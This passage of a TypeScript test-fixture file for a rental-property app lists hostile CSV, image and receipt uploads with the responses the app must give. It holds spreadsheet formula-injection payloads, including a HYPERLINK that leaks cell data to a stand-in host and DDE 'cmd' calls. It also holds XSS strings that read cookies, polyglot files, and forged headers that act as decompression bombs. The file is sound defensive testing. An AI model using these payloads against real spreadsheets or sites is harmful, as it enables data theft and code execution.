import { crc32 } from 'node:zlib';
import {
  ACCOUNT_MESSAGES,
  BANK_IMPORT_LIMITS,
  BANK_IMPORT_MESSAGES,
  formatLineTooLongMessage,
  formatTooManyLinesMessage,
  formatUnclosedQuoteMessage,
  IMPORT_LIMITS,
  IMPORT_MESSAGES,
  LEDGER_MESSAGES,
  PROPERTY_MESSAGES,
  type TApiErrorCode,
  type TBankCsvMapping,
  ZLedgerAmount,
  ZReceiptUploadQuery,
} from '@rentfolio/contracts';
import sharp from 'sharp';
import { BANK_CSV_MAPPING, CSV_HEADER, PNG_1X1_BASE64, RECEIPT_PDF } from './route-specs';

// Hostile files with the answer the product's rules give each, written out from docs/product.md "CSV import and
// export" and "Account", docs/api.md and the messages in packages/contracts. Every file is made here, small and the
// same on every run; the ones over 10 MB are made when the test runs.

const H = CSV_HEADER;
const row = (address: string, price = '250000') => `${address},Denver,CO,80202,condo,${price}`;
const CONTROL = (label: string) =>
  `${label} contains an invisible control character that is not allowed. Remove it and try again.`;
const BROKEN = (label: string) =>
  `${label} contains a broken character (half of an emoji or symbol). Retype it and try again.`;
const NOT_A_NUMBER = 'Purchase price must be a number.';

export type CsvRowError = {
  row: number;
  address: string | null;
  code: 'columns' | 'missing' | 'invalid';
  field?: string;
  fields?: string[];
  found?: number;
  expected?: number;
  message: string;
};

export type CsvExpectation =
  | {
      status: 200;
      totalRows: number;
      imported: number;
      failed: number;
      errors: CsvRowError[];
      /** The stored properties, by address (the fields named are compared). */
      stored?: Record<string, unknown>[];
      /** Text the export of the stored properties must hold (docs: formulas get a leading '). */
      exportContains?: string[];
    }
  | { status: 400 | 413; code: string; message: string };

export type CsvFixture = { name: string; csv: () => string; fileName?: string; expected: CsvExpectation };

/** UTF-16LE bytes of `text` read as if they were UTF-8 (a UTF-16 file without its byte-order mark). */
const asMisreadUtf16 = (text: string) => new TextDecoder('utf-8').decode(Buffer.from(text, 'utf16le'));
const interleaveNul = (text: string) => [...text].map((char) => `${char}\u0000`).join('');

export const CSV_FIXTURES: CsvFixture[] = [
  {
    name: 'formula injection in text cells is stored as text and escaped on export',
    csv: () =>
      [
        H,
        '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Denver,CO,80202,condo,250000',
        row("+cmd|' /C calc'!A0"),
        row("@SUM(1+1)*cmd|' /C calc'!A0"),
        row("-2+3+cmd|' /C calc'!A0"),
        row('\t=1+2'),
      ].join('\n'),
    fileName: 'formulas.csv',
    expected: {
      status: 200,
      totalRows: 5,
      imported: 5,
      failed: 0,
      errors: [],
      stored: [
        { address: "+cmd|' /C calc'!A0" },
        { address: "-2+3+cmd|' /C calc'!A0" },
        { address: '=1+2' },
        { address: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
        { address: "@SUM(1+1)*cmd|' /C calc'!A0" },
      ],
      exportContains: [
        "'=HYPERLINK(",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'=1+2",
      ],
    },
  },
  {
    name: 'formulas in number cells are not numbers',
    csv: () => [H, row('1 Main St', '=1+1'), row('2 Main St', '@SUM(A1)')].join('\n'),
    expected: {
      status: 200,
      totalRows: 2,
      imported: 0,
      failed: 2,
      errors: [
        { row: 2, address: '1 Main St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        { row: 3, address: '2 Main St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
      ],
    },
  },
  {
    name: 'a UTF-8 byte-order mark is dropped',
    csv: () => `\uFEFF${[H, row('1 Bom St')].join('\r\n')}`,
    expected: {
      status: 200,
      totalRows: 1,
      imported: 1,
      failed: 0,
      errors: [],
      stored: [
        { address: '1 Bom St', city: 'Denver', state: 'CO', zipCode: '80202', purchasePrice: 250_000 },
      ],
    },
  },
  {
    name: 'a UTF-16 file read as UTF-8: its headers still match, its cells hold NUL characters',
    csv: () => asMisreadUtf16(`${[H, row('1 Main St')].join('\n')}\n`),
    expected: {
      status: 200,
      totalRows: 2,
      imported: 0,
      failed: 2,
      errors: [
        {
          row: 2,
          address: `\u0000${interleaveNul('1 Main St')}`,
          code: 'invalid',
          field: 'address',
          message: CONTROL('Address'),
        },
        {
          row: 3,
          address: '\u0000',
          code: 'columns',
          found: 1,
          expected: 6,
          message: 'Row 3 has 1 columns but expected 6',
        },
      ],
    },
  },
  {
    name: 'a NUL byte in a cell refuses that row only',
    csv: () => [H, row('1 Main\u0000St'), row('2 Oak Ave')].join('\n'),
    expected: {
      status: 200,
      totalRows: 2,
      imported: 1,
      failed: 1,
      errors: [
        { row: 2, address: '1 Main\u0000St', code: 'invalid', field: 'address', message: CONTROL('Address') },
      ],
      stored: [{ address: '2 Oak Ave' }],
    },
  },
  {
    name: 'only a header',
    csv: () => `${H}\r\n`,
    expected: {
      status: 400,
      code: 'CSV_PARSE',
      message: 'CSV must have at least a header row and one data row',
    },
  },
  {
    name: 'blank lines only',
    csv: () => '\r\n\n   \n\t\n',
    expected: { status: 400, code: 'CSV_PARSE', message: 'Please upload a CSV file or paste CSV data.' },
  },
  {
    name: 'the empty text',
    csv: () => '',
    expected: { status: 400, code: 'CSV_PARSE', message: 'Please upload a CSV file or paste CSV data.' },
  },
  {
    name: 'a file over 10 MB',
    csv: () => {
      const line = `${row('1 Main St')},${'n'.repeat(1000)}\n`;
      return `${H},notes\n${line.repeat(Math.ceil((10 * 1024 * 1024) / line.length) + 10)}`;
    },
    expected: {
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
      message: 'The file is larger than the 10 MB limit. Split it into smaller files.',
    },
  },
  {
    name: 'a request body over the import route’s own limit (21 MB)',
    csv: () => `${H}\n${row('1 Main St')},${'n'.repeat(21 * 1024 * 1024)}`,
    expected: {
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
      message: 'The file is larger than the 10 MB limit. Split it into smaller files.',
    },
  },
  {
    name: 'a quote never closed',
    csv: () => [H, `"${row('1 Main St')}`, row('2 Oak Ave')].join('\n'),
    expected: { status: 400, code: 'CSV_PARSE', message: 'Row 2 has a quote that is never closed.' },
  },
  {
    name: 'a row of 10,000 columns under a header of 6',
    csv: () => [H, `${row('1 Main St')}${',x'.repeat(9994)}`].join('\n'),
    expected: {
      status: 200,
      totalRows: 1,
      imported: 0,
      failed: 1,
      errors: [
        {
          row: 2,
          address: '1 Main St',
          code: 'columns',
          found: 10_000,
          expected: 6,
          message: 'Row 2 has 10000 columns but expected 6',
        },
      ],
    },
  },
  {
    name: 'a header of 10,000 columns: the unknown ones are ignored',
    csv: () =>
      [
        `${H}${Array.from({ length: 9994 }, (_, i) => `,c${i}`).join('')}`,
        `${row('1 Wide St')}${','.repeat(9994)}`,
      ].join('\n'),
    expected: {
      status: 200,
      totalRows: 1,
      imported: 1,
      failed: 0,
      errors: [],
      stored: [{ address: '1 Wide St' }],
    },
  },
  {
    name: 'a header naming a field twice: the second column is a duplicate, not read',
    csv: () =>
      [
        'address,city,state,zip_code,property_type,purchase_price,Address,ZIP',
        `${row('1 Main St')},666 Evil Rd,99999`,
      ].join('\n'),
    expected: {
      status: 200,
      totalRows: 1,
      imported: 1,
      failed: 0,
      errors: [],
      stored: [{ address: '1 Main St', zipCode: '80202' }],
    },
  },
  {
    name: 'CRLF line ends',
    csv: () => `${[H, row('1 Crlf St'), row('2 Crlf St')].join('\r\n')}\r\n`,
    expected: {
      status: 200,
      totalRows: 2,
      imported: 2,
      failed: 0,
      errors: [],
      stored: [{ address: '1 Crlf St' }, { address: '2 Crlf St' }],
    },
  },
  {
    name: 'CR line ends',
    csv: () => `${[H, row('1 Cr St'), row('2 Cr St')].join('\r')}\r`,
    expected: {
      status: 200,
      totalRows: 2,
      imported: 2,
      failed: 0,
      errors: [],
      stored: [{ address: '1 Cr St' }, { address: '2 Cr St' }],
    },
  },
  {
    name: 'right-to-left overrides and isolates in an address',
    csv: () => [H, row('1 Main St\u202Egpj.exe'), row('\u2067evil\u2069 Rd'), row('3 Good Rd')].join('\n'),
    expected: {
      status: 200,
      totalRows: 3,
      imported: 1,
      failed: 2,
      errors: [
        {
          row: 2,
          address: '1 Main St\u202Egpj.exe',
          code: 'invalid',
          field: 'address',
          message: CONTROL('Address'),
        },
        {
          row: 3,
          address: '\u2067evil\u2069 Rd',
          code: 'invalid',
          field: 'address',
          message: CONTROL('Address'),
        },
      ],
      stored: [{ address: '3 Good Rd' }],
    },
  },
  {
    name: 'numbers no one writes: 1e309, NaN, $-5, Infinity, hex, 5e-324, less than a cent, -0, over the cap',
    csv: () =>
      [
        H,
        row('1 A St', '1e309'),
        row('2 A St', 'NaN'),
        row('3 A St', '$-5'),
        row('4 A St', 'Infinity'),
        row('5 A St', '0x10'),
        row('6 A St', '5e-324'),
        row('7 A St', '0.001'),
        row('8 A St', '-0'),
        row('9 A St', '"1,000,000"'),
        row('10 A St', '1000000001'),
      ].join('\n'),
    expected: {
      status: 200,
      totalRows: 10,
      imported: 1,
      failed: 9,
      errors: [
        { row: 2, address: '1 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        { row: 3, address: '2 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        {
          row: 4,
          address: '3 A St',
          code: 'invalid',
          field: 'purchasePrice',
          message: 'Purchase price cannot be negative.',
        },
        { row: 5, address: '4 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        { row: 6, address: '5 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        { row: 7, address: '6 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
        {
          row: 8,
          address: '7 A St',
          code: 'invalid',
          field: 'purchasePrice',
          message: 'Purchase price must be more than 0.',
        },
        {
          row: 9,
          address: '8 A St',
          code: 'invalid',
          field: 'purchasePrice',
          message: 'Purchase price must be more than 0.',
        },
        {
          row: 11,
          address: '10 A St',
          code: 'invalid',
          field: 'purchasePrice',
          message: 'Purchase price must be at most 1,000,000,000.',
        },
      ],
      stored: [{ address: '9 A St', purchasePrice: 1_000_000 }],
    },
  },
  {
    name: 'a file name ending in .csv.exe',
    csv: () => [H, row('1 Main St')].join('\n'),
    fileName: 'portfolio.csv.exe',
    expected: {
      status: 400,
      code: 'INVALID_FILE_TYPE',
      message: 'Invalid File Type: Please upload a CSV file.',
    },
  },
  {
    name: 'a file name hiding .png behind a NUL',
    csv: () => [H, row('1 Main St')].join('\n'),
    fileName: 'portfolio.csv\u0000.png',
    expected: {
      status: 400,
      code: 'INVALID_FILE_TYPE',
      message: 'Invalid File Type: Please upload a CSV file.',
    },
  },
  {
    name: 'a line longer than 100,000 characters',
    csv: () => [H, `1 Main St,${'x'.repeat(100_001)}`].join('\n'),
    expected: {
      status: 400,
      code: 'CSV_PARSE',
      message: 'Row 2 is longer than 100,000 characters. Check that the file is a CSV of properties.',
    },
  },
  {
    name: '100,001 blank lines after one row',
    csv: () => `${H}\n${row('1 Main St')}\n${'\n'.repeat(100_001)}`,
    expected: {
      status: 400,
      code: 'IMPORT_ROW_LIMIT',
      message:
        'A file can hold at most 100,000 lines, blank ones included. Remove the blank lines or split it into smaller files.',
    },
  },
  {
    name: 'markup is kept as text; half of a surrogate pair refuses its row',
    csv: () =>
      [H, row('<img src=x onerror=alert(1)>'), '2 Main St,Den\uD800ver,CO,80202,condo,250000'].join('\n'),
    expected: {
      status: 200,
      totalRows: 2,
      imported: 1,
      failed: 1,
      errors: [{ row: 3, address: '2 Main St', code: 'invalid', field: 'city', message: BROKEN('City') }],
      stored: [{ address: '<img src=x onerror=alert(1)>' }],
    },
  },
  {
    name: 'dates that do not exist, that are not dates, or that are in the future',
    csv: () =>
      [
        `${H},purchase_date`,
        `${row('1 D St')},2026-02-30`,
        `${row('2 D St')},not a date`,
        `${row('3 D St')},2099-01-01`,
        `${row('4 D St')},02/29/2024`,
        `${row('5 D St')},2026-11-22`,
      ].join('\n'),
    expected: {
      status: 200,
      totalRows: 5,
      imported: 1,
      failed: 4,
      errors: [
        {
          row: 2,
          address: '1 D St',
          code: 'invalid',
          field: 'purchaseDate',
          message: 'Purchase date must be a real date written as YYYY-MM-DD.',
        },
        {
          row: 3,
          address: '2 D St',
          code: 'invalid',
          field: 'purchaseDate',
          message: 'Purchase date must be a real date written as YYYY-MM-DD.',
        },
        {
          row: 4,
          address: '3 D St',
          code: 'invalid',
          field: 'purchaseDate',
          message: 'Purchase date cannot be in the future.',
        },
        {
          row: 6,
          address: '5 D St',
          code: 'invalid',
          field: 'purchaseDate',
          message: 'Purchase date cannot be in the future.',
        },
      ],
      stored: [{ address: '4 D St', purchaseDate: '2024-02-29' }],
    },
  },
  {
    name: 'a ; file with a formula and a decimal comma',
    csv: () => 'address;city;state;zip;type;price\n=1+2;Denver;CO;80202;Condo;"1.250.000,50"\n',
    expected: {
      status: 200,
      totalRows: 1,
      imported: 1,
      failed: 0,
      errors: [],
      stored: [{ address: '=1+2', propertyType: 'condo', purchasePrice: 1_250_000.5 }],
      exportContains: ["'=1+2"],
    },
  },
  {
    name: 'a header of unknown columns only',
    csv: () => 'foo,bar,baz\n1,2,3\n',
    expected: {
      status: 200,
      totalRows: 1,
      imported: 0,
      failed: 1,
      errors: [
        {
          row: 2,
          address: null,
          code: 'missing',
          fields: ['address', 'city', 'state', 'zipCode', 'propertyType', 'purchasePrice'],
          message:
            'Row 2 is missing required fields (address, city, state, zipCode, propertyType, purchasePrice)',
        },
      ],
    },
  },
];

// Images for the profile picture (docs/api.md PATCH /api/user/profile; docs/product.md "Account").

export type ImageExpectation =
  | {
      status: 200;
      /** The type of the stored copy: what the bytes are (a GIF is stored as a PNG). */
      storedType: 'image/png' | 'image/jpeg' | 'image/webp';
      /** Text the stored copy must not hold (the upload's second life as a page or a script). */
      mustNotContain?: string[];
      /** The stored copy's size, when the upload's is known. */
      size?: [number, number];
    }
  | { status: 400; message: string }
  | { status: 413; code: 'PAYLOAD_TOO_LARGE' };

export type ImageFixture = {
  name: string;
  /** The profilePicture value sent. */
  dataUrl: () => Promise<string>;
  expected: ImageExpectation;
};

const PNG_1X1 = Buffer.from(PNG_1X1_BASE64, 'base64');
const dataUrl = (type: string, bytes: Buffer) => `data:${type};base64,${bytes.toString('base64')}`;
const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 200 } } });
const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>',
);
const HTML_PAGE = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');

/** The 1 x 1 PNG whose header says width x height, with its IHDR checksum made right (a decompression bomb's header). */
function pngClaiming(width: number, height: number): Buffer {
  const bytes = Buffer.from(PNG_1X1);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
  return bytes;
}

/** A small JPEG whose frame header (SOF0) says width x height. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await solid(8, 8).jpeg({ quality: 80 }).toBuffer());
  const sof = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker in the JPEG');
  bytes.writeUInt16BE(height, sof + 5);
  bytes.writeUInt16BE(width, sof + 7);
  return bytes;
}

export const IMAGE_FIXTURES: ImageFixture[] = [
  {
    name: 'a PNG whose signature is wrong',
    dataUrl: async () => {
      const bytes = Buffer.from(PNG_1X1);
      bytes[0] = 0x88;
      return dataUrl('image/png', bytes);
    },
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
  },
  {
    name: 'an SVG with a script',
    dataUrl: async () => dataUrl('image/svg+xml', SVG_WITH_SCRIPT),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
  },
  {
    name: 'an SVG with a script, declared a PNG',
    dataUrl: async () => dataUrl('image/png', SVG_WITH_SCRIPT),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
  },
  {
    name: 'an SVG behind a byte-order mark and white space, declared a JPEG',
    dataUrl: async () => dataUrl('image/jpeg', Buffer.concat([Buffer.from('\uFEFF \n\t'), SVG_WITH_SCRIPT])),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
  },
  {
    name: 'an HTML page disguised as a PNG',
    dataUrl: async () => dataUrl('image/png', HTML_PAGE),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
  },
  {
    name: 'a polyglot: a GIF that is also a web page',
    dataUrl: async () => dataUrl('image/gif', Buffer.concat([await solid(2, 2).gif().toBuffer(), HTML_PAGE])),
    expected: { status: 200, storedType: 'image/png', mustNotContain: ['<script', '<html'], size: [2, 2] },
  },
  {
    name: 'a polyglot: a PNG with a script after its end, declared text/html',
    dataUrl: async () => dataUrl('text/html', Buffer.concat([PNG_1X1, HTML_PAGE])),
    expected: { status: 200, storedType: 'image/png', mustNotContain: ['<script', '<html'], size: [1, 1] },
  },
  {
    name: 'a 0-byte file declared a PNG',
    dataUrl: async () => 'data:image/png;base64,',
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
  },
  {
    name: 'a 0-byte file of no type',
    dataUrl: async () => 'data:;base64,',
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
  },
  {
    name: 'a truncated JPEG',
    dataUrl: async () => {
      const jpeg = await sharp({
        create: { width: 64, height: 64, channels: 3, background: { r: 200, g: 10, b: 90 } },
      })
        .composite([{ input: await solid(32, 32).png().toBuffer(), top: 16, left: 16 }])
        .jpeg({ quality: 95 })
        .toBuffer();
      return dataUrl('image/jpeg', jpeg.subarray(0, Math.floor(jpeg.length * 0.6)));
    },
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarUnreadable },
  },
  {
    name: 'a picture of 2 MB and one byte',
    dataUrl: async () =>
      dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(2 * 1024 * 1024 + 1 - PNG_1X1.length)])),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooLarge },
  },
  {
    name: 'a picture of 3 MB (over the field’s length)',
    dataUrl: async () => dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(3 * 1024 * 1024)])),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooLarge },
  },
  {
    name: 'a picture of 6 MB (over the route’s body limit of 5 MB)',
    dataUrl: async () => dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(6 * 1024 * 1024)])),
    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE' },
  },
  {
    name: 'a real PNG under the wrong MIME type (text/html)',
    dataUrl: async () => dataUrl('text/html', await solid(3, 2).png().toBuffer()),
    expected: { status: 200, storedType: 'image/png', size: [3, 2] },
  },
  {
    name: 'a PDF declared a PNG',
    dataUrl: async () => dataUrl('image/png', Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
  },
  {
    name: 'a GIF, stored as a PNG of its first frame',
    dataUrl: async () => dataUrl('image/gif', await solid(5, 4).gif().toBuffer()),
    expected: { status: 200, storedType: 'image/png', size: [5, 4] },
  },
  {
    name: 'a decompression bomb: a PNG header claiming 60,000 x 60,000 pixels',
    dataUrl: async () => dataUrl('image/png', pngClaiming(60_000, 60_000)),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooManyPixels },
  },
  {
    name: 'a decompression bomb: a JPEG header claiming 65,500 x 65,500 pixels',
    dataUrl: async () => dataUrl('image/jpeg', await jpegClaiming(65_500, 65_500)),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooManyPixels },
  },
  {
    name: 'text that is not base64',
    dataUrl: async () => 'data:image/png;base64,***this is not base64***',
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
  },
  {
    name: 'a javascript: address',
    dataUrl: async () => 'javascript:alert(document.cookie)',
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
  },
  {
    name: 'a WebP whose body is garbage',
    dataUrl: async () => {
      const bytes = Buffer.concat([
        Buffer.from('RIFF'),
        Buffer.from([0x24, 0, 0, 0]),
        Buffer.from('WEBPVP8 '),
        Buffer.alloc(28, 0xab),
      ]);
      return dataUrl('image/webp', bytes);
    },
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarUnreadable },
  },
  {
    name: 'a BMP, a type the product does not take',
    dataUrl: async () => dataUrl('image/bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60, 0)])),
    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
  },
  {
    name: 'a 3,000 x 2,000 photo, stored at 512 pixels on its longer side',
    dataUrl: async () => dataUrl('image/png', await solid(3000, 2000).png().toBuffer()),
    expected: { status: 200, storedType: 'image/png', size: [512, 341] },
  },
];

// Receipts, sent as PUT /api/transactions/:id/receipt's raw body (docs/api.md "Ledger"; docs/product.md "Receipts"):
// what a file is is read from its first bytes alone. The signatures are the formats' own: a PDF's header line first
// (ISO 32000-1, 7.5.2), PNG's eight bytes (RFC 2083, 3.1), JPEG's SOI marker and the next marker's FF (ITU T.81, B.1.1),
// a RIFF file whose form type is WEBP (RIFF: "RIFF", a 32-bit little-endian size, a four-letter form type).

export type ReceiptType = 'application/pdf' | 'image/jpeg' | 'image/png' | 'image/webp';

/** Each type's extensions: a stored name ends in one of its type's (docs/product.md "Receipts"). */
export const RECEIPT_TYPE_EXTENSIONS: Record<ReceiptType, string[]> = {
  'application/pdf': ['.pdf'],
  'image/jpeg': ['.jpg', '.jpeg'],
  'image/png': ['.png'],
  'image/webp': ['.webp'],
};

export type ReceiptExpectation =
  | {
      status: 200;
      type: ReceiptType;
      /** The stored name, when the rules leave only one (folders dropped, the extension added). */
      name?: string;
    }
  | { status: 400 | 413 | 415; code: TApiErrorCode; message: string };

export type ReceiptFixture = {
  name: string;
  bytes: () => Buffer;
  /** The `name` query parameter; none when undefined. */
  fileName?: string;
  /** A query string sent as it is, in place of `fileName` (percent-encoding that is not UTF-8, a repeated name). */
  rawQuery?: string;
  /** The Content-Type sent (application/octet-stream unless said); null: none at all. */
  contentType?: string | null;
  expected: ReceiptExpectation;
};

const MIB = 1024 * 1024;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** A JPEG's SOI marker, then an APP0 (JFIF) segment. */
const JPEG_HEAD = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  Buffer.from('JFIF\0', 'latin1'),
]);
/** A RIFF file of `form` type with one chunk `chunk` of `size` bytes. */
const riff = (form: string, chunk: string, size: number) => {
  const bytes = Buffer.concat([
    Buffer.from(`RIFF\0\0\0\0${form}${chunk}`, 'latin1'),
    Buffer.alloc(4 + size, 0x11),
  ]);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  bytes.writeUInt32LE(size, 16);
  return bytes;
};
const WEBP = riff('WEBP', 'VP8 ', 24);
/** The smallest GIF89a: a 1 x 1 image, its colour table, one image descriptor and the trailer (GIF89a spec). */
const GIF_1X1 = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
/** A DOS header ("MZ", e_lfanew at 0x3C) pointing at a PE signature: a Windows program. */
function windowsExe(): Buffer {
  const bytes = Buffer.alloc(256, 0);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
}
/** A ZIP local file header (PK\x03\x04) holding "receipt.pdf": what a .docx or a zipped folder starts with. */
function zipFile(): Buffer {
  const name = Buffer.from('receipt.pdf');
  const header = Buffer.alloc(30, 0);
  header.write('PK\x03\x04', 0, 'latin1');
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, RECEIPT_PDF]);
}
const RECEIPT_HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
const NOT_A_RECEIPT = {
  status: 400,
  code: 'INVALID_FILE_TYPE',
  message: LEDGER_MESSAGES.receiptType,
} as const satisfies ReceiptExpectation;
const NOT_OCTET_STREAM = {
  status: 415,
  code: 'UNSUPPORTED_MEDIA_TYPE',
  message: LEDGER_MESSAGES.receiptBody,
} as const satisfies ReceiptExpectation;
/** The contract's own message for a query it refuses (ZReceiptUploadQuery). */
const queryMessage = (query: unknown) =>
  ZReceiptUploadQuery.safeParse(query).error?.issues[0]?.message ?? 'the contract takes it';

export const RECEIPT_FIXTURES: ReceiptFixture[] = [
  {
    name: 'an HTML page named receipt.pdf',
    bytes: () => RECEIPT_HTML,
    fileName: 'receipt.pdf',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'an SVG with a script, named receipt.png',
    bytes: () => SVG_WITH_SCRIPT,
    fileName: 'receipt.png',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a Windows program (MZ, PE) named receipt.jpg',
    bytes: windowsExe,
    fileName: 'receipt.jpg',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a GIF, a type receipts do not take',
    bytes: () => GIF_1X1,
    fileName: 'scan.gif',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a PDF header that is not at byte 0 (" %PDF-")',
    bytes: () => Buffer.concat([Buffer.from(' '), RECEIPT_PDF]),
    fileName: 'receipt.pdf',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a PDF behind a UTF-8 byte-order mark',
    bytes: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), RECEIPT_PDF]),
    fileName: 'receipt.pdf',
    expected: NOT_A_RECEIPT,
  },
  { name: 'a truncated PDF signature ("%PD")', bytes: () => Buffer.from('%PD'), expected: NOT_A_RECEIPT },
  {
    name: 'a PDF signature without its dash ("%PDF1.7")',
    bytes: () => Buffer.from('%PDF1.7\n%%EOF\n'),
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'seven of the eight bytes of PNG’s signature',
    bytes: () => PNG_SIGNATURE.subarray(0, 7),
    expected: NOT_A_RECEIPT,
  },
  {
    // The signature's CR LF is there to catch this very damage (RFC 2083, 12.11).
    name: 'a PNG whose signature went through a text-mode copy (CR LF turned into LF)',
    bytes: () =>
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32, 1)]),
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a JPEG SOI marker alone (FF D8)',
    bytes: () => Buffer.from([0xff, 0xd8]),
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a RIFF WAVE file (RIFF, but not WebP)',
    bytes: () => riff('WAVE', 'fmt ', 16),
    fileName: 'receipt.webp',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a RIFF header cut off inside its form type ("RIFF....WEB")',
    bytes: () => WEBP.subarray(0, 11),
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a WebP without its RIFF header ("WEBPVP8 …")',
    bytes: () => WEBP.subarray(8),
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'an empty body',
    bytes: () => Buffer.alloc(0),
    fileName: 'receipt.pdf',
    expected: { status: 400, code: 'VALIDATION', message: LEDGER_MESSAGES.receiptEmpty },
  },
  {
    name: 'a ZIP archive (PK\\x03\\x04) holding a PDF, named receipt.pdf',
    bytes: zipFile,
    fileName: 'receipt.pdf',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a polyglot: an HTML page that holds %PDF- further on',
    bytes: () =>
      Buffer.concat([
        Buffer.from('<html><!--\n'),
        RECEIPT_PDF,
        Buffer.from('--><script>alert(1)</script></html>'),
      ]),
    fileName: 'receipt.pdf',
    expected: NOT_A_RECEIPT,
  },
  {
    name: 'a PDF of 10 MB and one byte',
    bytes: () => Buffer.concat([RECEIPT_PDF, Buffer.alloc(10 * MIB + 1 - RECEIPT_PDF.length, 0x20)]),
    fileName: 'big.pdf',
    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: LEDGER_MESSAGES.receiptTooLarge },
  },
  {
    name: 'an HTML page of 12 MB',
    bytes: () => Buffer.concat([RECEIPT_HTML, Buffer.alloc(12 * MIB, 0x20)]),
    fileName: 'big.pdf',
    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: LEDGER_MESSAGES.receiptTooLarge },
  },
  {
    name: 'a PDF of exactly 10 MB',
    bytes: () => Buffer.concat([RECEIPT_PDF, Buffer.alloc(10 * MIB - RECEIPT_PDF.length, 0x20)]),
    fileName: 'scan.pdf',
    expected: { status: 200, type: 'application/pdf', name: 'scan.pdf' },
  },
  {
    name: 'a PDF sent as application/json',
    bytes: () => RECEIPT_PDF,
    fileName: 'receipt.pdf',
    contentType: 'application/json',
    expected: NOT_OCTET_STREAM,
  },
  {
    name: 'a PDF sent as application/pdf',
    bytes: () => RECEIPT_PDF,
    fileName: 'receipt.pdf',
    contentType: 'application/pdf',
    expected: NOT_OCTET_STREAM,
  },
  {
    name: 'a PDF sent as text/plain',
    bytes: () => RECEIPT_PDF,
    fileName: 'receipt.pdf',
    contentType: 'text/plain',
    expected: NOT_OCTET_STREAM,
  },
  {
    name: 'a PNG sent as image/png',
    bytes: () => Buffer.concat([PNG_SIGNATURE, Buffer.alloc(32, 1)]),
    fileName: 'receipt.png',
    contentType: 'image/png',
    expected: NOT_OCTET_STREAM,
  },
  {
    name: 'a PDF in a multipart form',
    bytes: () =>
      Buffer.concat([
